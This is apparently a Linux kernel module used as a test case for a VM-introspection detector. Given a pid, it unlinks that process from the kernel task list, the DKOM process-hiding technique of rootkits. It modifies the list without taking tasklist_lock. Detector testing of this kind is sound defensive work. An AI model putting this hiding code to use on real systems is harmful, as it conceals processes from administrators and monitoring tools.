// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_hideproc: unlinks a process (every thread-group leader is on init_task.tasks)
 * from the tasks list, as DKOM rootkits do to hide from list walkers. The pid stays in
 * the pid namespace, so /proc still shows it; the detector must notice the difference.
 */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/rculist.h>

static int pid = -1;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process to hide");

static int __init vmi_hideproc_init(void)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!task) {
		rcu_read_unlock();
		pr_err("vmi_hideproc: no process %d\n", pid);
		return -ESRCH;
	}
	list_del_init(&task->tasks);
	rcu_read_unlock();
	pr_info("vmi_hideproc: unlinked %d (%s) from the tasks list\n", pid, task->comm);
	return 0;
}

module_init(vmi_hideproc_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi detector test: hide a process from the tasks list");
